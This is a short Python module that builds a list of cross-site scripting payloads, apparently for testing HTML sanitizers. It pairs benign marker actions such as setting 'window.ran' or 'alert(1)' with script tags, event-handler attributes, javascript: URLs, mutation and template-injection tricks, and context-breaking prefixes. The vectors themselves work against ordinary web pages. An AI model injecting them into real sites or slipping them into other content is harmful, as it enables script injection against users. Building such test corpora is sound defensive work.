"""Texts that would run a script if they were written into a page as they are: each sets `window.ran`, or opens a dialog."""

import itertools

_ACTS = ("window.ran=1", "alert(1)", "top.ran=1", "(()=>{window.ran=1})()")
_CARRIERS = (
    "<script>{act}</script>",
    "<script src=data:text/javascript,{act}></script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src=javascript:{act}>",
    "<body onload={act}>",
    "<details open ontoggle={act}>x</details>",
    "<input autofocus onfocus={act}>",
    "<a href=javascript:{act} autofocus>x</a>",
    "<math><mtext></table><img src=x onerror={act}>",
    "<video><source onerror={act}></video>",
    "<object data=data:text/html,<script>{act}</script>></object>",
    "<style>@import 'data:text/css,*{{}}'</style><img/src=x onerror={act}>",
    "<div hx-get=/ hx-trigger=load hx-on::after-request={act}>x</div>",
    "{{{{ {act} }}}}",
    "{{% if {act} %}}x{{% endif %}}",
    "${{{act}}}",
)
_ENDINGS = ("", '">', "'>", "</script>", "-->", "</title>", "</textarea>", "]]>", "\\u003c/script>")


def list_payloads(count: int = 300) -> tuple[str, ...]:
    """Return so many payloads, no two alike: each carrier after each way to get out of where a text may stand."""
    made = (
        f"{ending}{carrier.format(act=act)}"
        for act, ending, carrier in itertools.product(_ACTS, _ENDINGS, _CARRIERS)
    )
    return tuple(itertools.islice(made, count))
